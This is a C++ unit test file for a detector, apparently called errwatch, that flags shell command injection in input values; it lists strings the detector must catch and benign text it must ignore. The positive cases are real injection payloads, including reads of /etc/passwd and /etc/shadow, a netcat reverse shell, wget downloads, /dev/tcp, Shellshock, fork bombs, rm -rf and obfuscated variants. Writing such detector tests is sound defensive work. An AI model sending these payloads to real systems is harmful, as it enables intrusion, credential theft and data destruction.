#include "structure/shell.h"

#include <cppunit/TestFixture.h>

#include "unit/structure/detector_check.h"
#include "unit/structure/everyday_values.h"

namespace errwatch {
namespace {

constexpr DetectorCheck kShell{HasShell, kShellMarks};

class ShellTest : public CppUnit::TestFixture {
  CPPUNIT_TEST_SUITE(ShellTest);
  CPPUNIT_TEST(CommandsBehindSeparators);
  CPPUNIT_TEST(CommandsInSubstitutions);
  CPPUNIT_TEST(CommandsBehindWhatPrecedesThem);
  CPPUNIT_TEST(DressedCommands);
  CPPUNIT_TEST(LinesAsSent);
  CPPUNIT_TEST(ValuesThatAreCommands);
  CPPUNIT_TEST(ItemsOfListsAreNone);
  CPPUNIT_TEST(SentencesAreNone);
  CPPUNIT_TEST(EverydayValuesHaveNone);
  CPPUNIT_TEST_SUITE_END();

 public:
  void CommandsBehindSeparators() {
    kShell.FindsAll({";id",
                     "; id",
                     "x;id",
                     "1;id;",
                     "127.0.0.1; ls -la",
                     "x; ping 192.0.2.1",
                     "x; ping 127.0.1",
                     "X/1.0 (Linux; curl 192.0.2.1)",
                     "nohup nmap 192.0.2.1",
                     "|id",
                     "| id",
                     "x|id",
                     "||id",
                     "&& whoami",
                     "x&&dir",
                     "x & whoami",
                     "a';id;'",
                     "a\";uname -a;#",
                     "x);id",
                     ";cat /etc/passwd",
                     "; tac /etc/shadow #",
                     ";wget http://192.0.2.1/x",
                     ";curl x",
                     "|nslookup a.example",
                     ";ping -c 3 192.0.2.1",
                     "; sleep 5",
                     "|sleep 5",
                     ";sleep 10#",
                     "x.txt|sh",
                     "echo aWQ= | base64 -d | bash",
                     ";python3 -c 'import os'",
                     ";php -r 'x'",
                     ";perl -e 'x'",
                     ";nc -e /bin/sh 192.0.2.1 4444",
                     ";rm -rf /tmp/*",
                     ";chmod 777 x",
                     ";./x",
                     ";rev<<<dwssap",
                     ";find . -name x",
                     ";echo 'x'",
                     ";echo $HOME",
                     "|more /etc/hosts",
                     ";dd if=/dev/zero of=x",
                     ";cp a.txt /var/www",
                     ";cat *.php",
                     ";cat ../../x",
                     ";cat ~/x",
                     "|tee x.php",
                     ";env",
                     ";printenv",
                     ";htop",
                     ";/bin/id",
                     "|/usr/bin/wget",
                     "a;/bin/ls"});
  }

  void CommandsInSubstitutions() {
    kShell.FindsAll({"$(id)", "a$(whoami)b", "$(sleep 5)", "$(curl x)", "`id`", "x`id`", "a`curl${IFS}x`",
                     "`sleep 5`", "<(id)", ">(id)", "\"$(cat x.txt)\"", "$(</etc/passwd)$(id)", "$(echo x)",
                     "$( id )", "admin`wget x`"});
  }

  void CommandsBehindWhatPrecedesThem() {
    kShell.FindsAll({";sudo ls", "; sudo -u root id", "; time id", "|timeout 5 id", ";env x=1 id", ";a=b id",
                     ";x=1;$x", "a=id;$a", ";$u cat /etc/passwd", "; $u wget x.sh", "|xargs rm -f",
                     "; then ls -l", ";{ id; }", ";(id)", "; ! id", "echo id|$0", "; </etc/passwd cat -"});
  }

  void DressedCommands() {
    kShell.FindsAll({";c'a't x",
                     ";c\"a\"t x",
                     ";c\\at x",
                     ";wh$@oami",
                     ";who$(:)ami;id",
                     ";c${u}at x",
                     ";c``at x",
                     ";{cat,/etc/passwd}",
                     "{cat,/etc/passwd}",
                     ";cat$IFS/etc/passwd",
                     ";cat${IFS}x",
                     "a$IFS$9b",
                     ";/?\?\?/c?t x",
                     "/b?n/c[a]t",
                     "/etc/pass*",
                     "/e?c/p?sswd",
                     "wh''oami",
                     "w\"h\"oami",
                     "un''ame -a",
                     "una$$me",
                     "\"wh\"oami",
                     "/\\b\\i\\n/////s\\h",
                     "cat /e?c/shadow",
                     "cat</etc/passwd",
                     "{,ifconfig}",
                     ";{,ip,a}",
                     "${x:0:1}",
                     "${path%%:*}",
                     "${x//a/b}",
                     "${!x}",
                     "$((7*7))",
                     "$[7*7]",
                     "x=$'\\x69\\x64'",
                     "/dev/tcp/192.0.2.1/80",
                     "exec 5<>/dev/udp/a/1",
                     "() { :;}; id",
                     "() { _; } >_[$($())] { id; }",
                     "x() { x|x& };x",
                     "f(){ f & f; };f",
                     "$SHELL -c id"});
  }

  void LinesAsSent() {
    kShell.FindsAll({"%0aid", "%0a/bin/id%0a", "x%0d%0awhoami", "127.0.0.1%0Acat+/etc/passwd", "%250aid",
                     "a%0a%0a;x%0auname+-a", "%0a cat%20%2fetc%2fpasswd", "\\nid\\n", "1%0Aid"},
                    TextKind::kQuery);
    kShell.FindsNone({"Hello%0D%0AJohn", "first%0asecond%0athird", "red%0acat%0adog", "name%0aid%0atitle",
                      "Dear%20all,%0amore%20to%20follow"},
                     TextKind::kQuery);
  }

  void ValuesThatAreCommands() {
    kShell.FindsAll({"--checkpoint-action=exec=id", "cat /etc/passwd", "ls -l /etc/passwd", "nohup ifconfig",
                     "strace ifconfig", "busybox wget -q x", "time sh -c id", "/bin/bash -c id",
                     "dd if=/etc/passwd of=x"});
    kShell.FindsNone({"cat food", "ls -la", "find a doctor", "sudo apt install nginx", "tar -xzf file",
                      "time out", "watch ls"});
  }

  void ItemsOfListsAreNone() {
    kShell.FindsNone({"name;title;id", "name|title|id", "| id | name |", "cat|ls|id", "^(cat|ls|id)$",
                      "html;css;bash", "bash;zsh", "Home | ID", "PS & ID", "c=1&id&x=2", "linux|bash|sh",
                      "fields=name;id;env"});
  }

  void SentencesAreNone() {
    kShell.FindsNone({"drop in; cat will follow", "wait; sleep 8 hours", "curl; wget is better",
                      "we use `ls -l` here", "the `id` column", "`id` is a column", "say \"hi\"; find joy",
                      "; more to come", "this; that & the other", "he ran; touch down",
                      "we shall see; head for the hills", "dogs & cat videos", "$(this)",
                      "$(document).ready(x)"});
  }

  void EverydayValuesHaveNone() {
    CPPUNIT_ASSERT(EverydayValues().size() > 300);
    kShell.FindsNone(EverydayValues());
  }
};

CPPUNIT_TEST_SUITE_REGISTRATION(ShellTest);

}  // namespace
}  // namespace errwatch
